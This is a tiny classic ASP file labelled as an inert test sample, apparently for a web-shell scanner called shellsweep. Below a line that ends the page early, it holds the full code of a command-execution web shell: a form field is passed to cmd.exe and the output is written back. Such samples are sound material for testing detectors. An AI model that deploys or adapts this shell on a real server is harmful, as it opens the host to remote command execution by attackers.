<% ' shellsweep test sample: inert, never functional
Response.End %>
<%
Set oS = Server.CreateObject("WSCRIPT.SHELL")
szCMD = Request.Form(".CMD")
If (szCMD <> "") Then
  Set oExec = oS.Exec("cmd.exe /c " & szCMD)
  Response.Write Server.HTMLEncode(oExec.StdOut.ReadAll)
End If
%>
<FORM action="" method="POST"><input type=text name=".CMD" size=45><input type=submit value="Run"></FORM>
